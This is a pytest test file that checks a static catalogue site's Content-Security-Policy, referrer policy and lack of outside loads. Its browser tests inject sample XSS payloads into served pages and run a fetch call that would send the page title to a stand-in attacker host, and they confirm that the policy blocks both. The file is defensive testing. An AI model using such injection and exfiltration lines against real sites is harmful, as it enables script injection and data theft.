"""What pages may load, run and tell: the policy of each, and that a browser holds to it."""

import base64
import re
from collections.abc import Iterator, Mapping
from hashlib import sha256
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from catalog.policy import inline_scripts, policy
from tests.site_fixture import BuiltSite, Servers
from tests.test_browser import Open, browser, open_tab

__all__ = ["browser", "open_tab"]

Tag = tuple[str, Mapping[str, str]]
POLICY = "Content-Security-Policy"
LOADING = {
    *("script src", "img src", "img srcset", "source src", "source srcset", "iframe src"),
    *("embed src", "object data", "video src", "audio src", "input src", "use href"),
}
RELS = {"stylesheet", "icon", "manifest", "apple-touch-icon", "preload", "modulepreload"}
"""Kinds of links that a browser follows by itself."""


class Reader(HTMLParser):
    """The tags of a page in their order, and the scripts in it that run."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: list[Tag] = []
        self.scripts: list[str] = []
        self._runs = False
        self.feed(source)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.tags.append((tag, given))
        self._runs = tag == "script" and not {"src", "type"} & given.keys()

    def handle_data(self, data: str) -> None:
        if self._runs:
            self.scripts.append(data)

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002 - of HTMLParser
        self._runs = False

    @property
    def policy(self) -> str:
        (found,) = (one["content"] for _, one in self.tags if one.get("http-equiv") == POLICY)
        return found


@pytest.fixture(scope="module")
def read_pages(province_site: BuiltSite) -> dict[str, Reader]:
    files = sorted(province_site.folder.rglob("*.html"))
    return {str(f.relative_to(province_site.folder)): Reader(f.read_text("utf-8")) for f in files}


def test_a_policy_is_made_of_the_scripts_that_it_is_given() -> None:
    found = policy(["a()"])

    digest = base64.b64encode(sha256(b"a()").digest()).decode()
    assert f"script-src 'self' 'sha256-{digest}';" in found
    assert found.startswith("default-src 'none'; ")
    assert "script-src 'self';" in policy([])


def test_only_what_runs_is_a_script_inside() -> None:
    text = '<script src="a"></script><script type="x">1</script><script data-a="b">2\n</script>'

    assert list(inline_scripts(text)) == ["2\n"]


def test_every_page_says_its_policy_before_anything_else(read_pages: dict[str, Reader]) -> None:
    """A policy holds for what follows it; the title is the first that contributors wrote."""
    assert len(read_pages) > 400
    for path, page in read_pages.items():
        begin = [(tag, dict(given)) for tag, given in page.tags[:5]]
        assert [tag for tag, _ in begin] == ["html", "head", "meta", "meta", "meta"], path
        assert begin[2][1] == {"charset": "utf-8"}, path
        assert begin[3][1]["http-equiv"] == POLICY, path
        assert begin[4][1] == {"name": "referrer", "content": "no-referrer"}, path
        assert page.policy


def test_a_policy_allows_exactly_what_stands_in_its_page(read_pages: dict[str, Reader]) -> None:
    kinds = set()
    for path, page in read_pages.items():
        made = policy(page.scripts)
        assert page.policy == made, path
        kinds.add(made)
        assert "unsafe" not in made
        assert not re.search(r"https?:|\*", made)

    assert len(kinds) == 3, "in the frame, of a short address, without a script inside"


def test_nothing_in_a_page_needs_more_than_its_policy(read_pages: dict[str, Reader]) -> None:
    """No handler and no style in an attribute, no frame, no plug-in."""
    for path, page in read_pages.items():
        for tag, given in page.tags:
            assert tag not in {"iframe", "frame", "object", "embed", "style", "base"}, path
            assert not [name for name in given if name.startswith("on") or name == "style"], path
            assert not [v for v in given.values() if v.strip().lower().startswith("javascript:")]


def addresses(page: Reader) -> Iterator[str]:
    for tag, given in page.tags:
        for name, value in given.items():
            is_followed = tag == "link" and name == "href" and given.get("rel") in RELS
            if f"{tag} {name}" in LOADING or is_followed:
                yield from (one.split()[0] for one in value.split(", ") if one.strip())


def test_no_page_style_or_script_asks_for_anything_elsewhere(
    province_site: BuiltSite, read_pages: dict[str, Reader]
) -> None:
    found = {url for page in read_pages.values() for url in addresses(page)}
    assert len(found) > 100
    outside = {
        url for url in found if urlsplit(url).netloc or urlsplit(url).scheme not in {"", "data"}
    }

    assert outside == set()
    for file in (province_site.folder / "assets").rglob("*.css"):
        named = re.findall(r"url\(\s*['\"]?([^'\")]+)|@import\s*['\"]([^'\"]+)", file.read_text())
        assert not [url for both in named for url in both if re.match(r"(https?:)?//", url)]


def test_a_memory_stick_has_no_policy_and_tells_nobody(offline_site: BuiltSite) -> None:
    """There 'self' is nobody: it would shut out our own scripts."""
    page = Reader((offline_site.folder / "index.html").read_text("utf-8"))

    assert not [one for _, one in page.tags if one.get("http-equiv") == POLICY]
    assert ("meta", {"name": "referrer", "content": "no-referrer"}) in page.tags


# In a browser

EVIL = "<script>window.hacked=1</script><img src=x onerror='window.hacked=2'>"
LEAK = "fetch('https://evil.example/?' + document.title).then(() => 'sent', () => 'stopped')"
SPY = """
window.violations = [];
document.addEventListener("securitypolicyviolation", e => violations.push(e.violatedDirective));
"""


@pytest.mark.parametrize("address", ["", "san-pham/", "in/san-pham/{}/", "Q/Z5WXVAH/"])
@pytest.mark.parametrize("place", ["<title>", "</body>"])
def test_a_script_that_got_past_the_escaping_does_not_run(
    province_site: BuiltSite, serve: Servers, open_tab: Open, address: str, place: str
) -> None:
    """Wherever it stands, the title too; ours still do."""
    root = serve(province_site.folder)
    url = root + address.format("htx-vi-du-mot/che-con-hieu-luc")
    tab = open_tab(root, locale="vi-VN")
    page = tab.page
    page.add_init_script(SPY)

    def broken(route, request):
        answer = route.fetch()
        evil = f"</title>{EVIL}" if place == "<title>" else EVIL
        at = place + evil if place == "<title>" else evil + place
        html = re.sub("<meta http-equiv=.refresh.[^>]*>", "", answer.text())
        route.fulfill(response=answer, body=html.replace(place, at, 1))

    page.route(url, broken)
    page.goto(url)
    page.wait_for_function("violations.length >= 2")

    assert page.evaluate("window.hacked") is None
    assert set(page.evaluate("violations")) == {"script-src-elem", "script-src-attr"}
    assert page.evaluate(LEAK) == "stopped"
    tab.complaints.clear()
    if not address:
        assert page.get_attribute("html", "data-md-color-scheme") == "default"


def test_a_site_that_is_linked_to_is_not_told_where_its_reader_came_from(
    province_site: BuiltSite, serve: Servers, open_tab: Open
) -> None:
    root = serve(province_site.folder)
    tab = open_tab(root)
    page, seen = tab.page, []
    page.route(
        re.compile("^https://"),
        lambda route, request: (
            seen.append(request.headers),
            route.fulfill(body="<title>elsewhere</title>", content_type="text/html"),
        ),
    )
    page.goto(f"{root}san-pham/htx-vi-du-mot/che-con-hieu-luc/")
    page.locator("main a[href^='https://']:not([rel*=noreferrer])").first.click()
    page.wait_for_url(re.compile("^https://"))
    tab.complaints.clear()

    assert seen
    assert not [one for one in seen if "referer" in one]
